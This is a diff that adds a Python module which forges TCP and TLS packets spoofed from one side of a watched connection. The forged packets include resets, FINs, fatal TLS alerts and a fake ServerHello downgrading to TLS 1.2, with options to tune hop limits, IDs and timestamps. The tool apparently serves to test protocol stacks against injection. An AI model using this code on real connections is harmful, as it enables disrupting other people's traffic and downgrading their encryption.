@@ -1,0 +1,130 @@
+"""injection.py - packets that a machine beside the path sends in another's name.
+
+An injection is written as words joined by commas:
+
+    alert:N rst fin hello       what is sent; alert:N is fatal but for 0 (close_notify); hello is a
+                                ServerHello that chooses TLS 1.2
+    as-server as-client         in whose name (as-server when not said)
+    on-hello on-answer on-data  when: as the ClientHello goes by, as the ServerHello goes by, or as
+                                the first encrypted record of the other side goes by
+    first                       before the segment that gives the moment, not behind it
+    same-place                  at the sequence number of the genuine segment that gives the moment
+                                (on-answer: contradicts it), instead of at the next one that is due
+    hops:N id:N window:N        the hop limit lowered by N, the IP identification, the raw window
+    no-timestamp late-clock     without TCP timestamp; with one of an hour ago
+    times:N                     sent N times
+
+What is not said is as the victim's latest packet had it: the injector has watched the connection.
+"""
+
+import struct
+
+import hello
+import packets
+
+FATAL, WARNING = 2, 1
+APPLICATION_DATA, CHANGE_CIPHER_SPEC, ALERT, HANDSHAKE = 23, 20, 21, 22
+TLS12_SUITE = 0xC030
+TIMESTAMP_KIND = 8
+AN_HOUR_OF_TICKS = 3600 * 1000
+
+
+def forged_hello():
+    """A whole ServerHello record: TLS 1.2, without a downgrade mark."""
+    extensions = struct.pack("!HH", 0xFF01, 1) + b"\0" + struct.pack("!HH", 23, 0)
+    body = b"\x03\x03" + bytes(range(64, 96)) + b"\0" + struct.pack("!HB", TLS12_SUITE, 0)
+    body += struct.pack("!H", len(extensions)) + extensions
+    message = b"\x02" + len(body).to_bytes(3, "big") + body
+    return bytes([HANDSHAKE, 3, 3]) + struct.pack("!H", len(message)) + message
+
+
+class Injection:
+    """One `--inject` of middle.py."""
+
+    def __init__(self, text):
+        self.words = text.split(",")
+        self.what = self.words[0]
+        self.as_server = "as-client" not in self.words
+        self.is_first = "first" in self.words
+        known = ("as-server as-client on-hello on-answer on-data first same-place no-timestamp "
+                 "late-clock").split()
+        for word in self.words[1:]:
+            if word not in known and word.partition(":")[0] not in ("hops", "id", "window", "times"):
+                raise ValueError(f"--inject: {word}?")
+
+    def _number(self, name, usual=None):
+        for word in self.words:
+            if word.startswith(name + ":"):
+                return int(word.partition(":")[2])
+        return usual
+
+    def is_due(self, segment, from_client):
+        """Is this segment, on its way, the moment?"""
+        payload = segment.payload
+        if "on-answer" in self.words:
+            return not from_client and hello.is_hello(payload, hello.SERVER_HELLO)
+        if "on-data" in self.words:
+            types = (APPLICATION_DATA, CHANGE_CIPHER_SPEC)
+            return from_client == self.as_server and payload[:1] and payload[0] in types
+        return from_client and hello.is_hello(payload, hello.CLIENT_HELLO)
+
+    def forge(self, segment, from_client, latest):
+        """The packets. `latest` has the last segment of each direction, by from_client."""
+        own = latest[not self.as_server]
+        if from_client != self.as_server:  # the moment is the victim's own segment
+            own = segment
+            sequence = segment.sequence if "same-place" in self.words else segment.next_sequence
+            acknowledgement = segment.acknowledgement
+        else:
+            sequence = segment.acknowledgement
+            acknowledgement = segment.next_sequence
+        flags, payload = self._content()
+        packet = own.changed(
+            sequence=sequence,
+            acknowledgement=acknowledgement,
+            flags=flags,
+            payload=payload,
+            identification=self._number("id", (own.identification + 1) & 0xFFFF),
+            hop_limit=own.hop_limit - self._number("hops", 0),
+            window=self._number("window", own.window),
+            options=self._options(own),
+        )
+        return [packet] * self._number("times", 1)
+
+    def _content(self):
+        if self.what == "rst":
+            return packets.RST | packets.ACK, b""
+        if self.what == "fin":
+            return packets.FIN | packets.ACK, b""
+        if self.what == "hello":
+            return packets.PSH | packets.ACK, forged_hello()
+        number = int(self.what.partition(":")[2])
+        level = FATAL if number else WARNING
+        return packets.PSH | packets.ACK, bytes([ALERT, 3, 3, 0, 2, level, number])
+
+    def _options(self, own):
+        """TCP's options of an ordinary segment: the timestamp, if the victim sends one."""
+        if self.what == "rst" or "no-timestamp" in self.words:
+            return b""
+        stamp = timestamp_of(own.options)
+        if stamp is None:
+            return b""
+        value, echo = stamp
+        if "late-clock" in self.words:
+            value = (value - AN_HOUR_OF_TICKS) & 0xFFFFFFFF
+        return struct.pack("!BBBBII", 1, 1, TIMESTAMP_KIND, 10, value, echo)
+
+
+def timestamp_of(options):
+    """(value, echo) of a TCP timestamp option, or None."""
+    at = 0
+    while at < len(options) and options[at] != 0:
+        if options[at] == 1:
+            at += 1
+            continue
+        if at + 1 >= len(options) or options[at + 1] < 2:
+            return None
+        if options[at] == TIMESTAMP_KIND and options[at + 1] == 10:
+            return struct.unpack_from("!II", options, at + 2)
+        at += options[at + 1]
+    return None
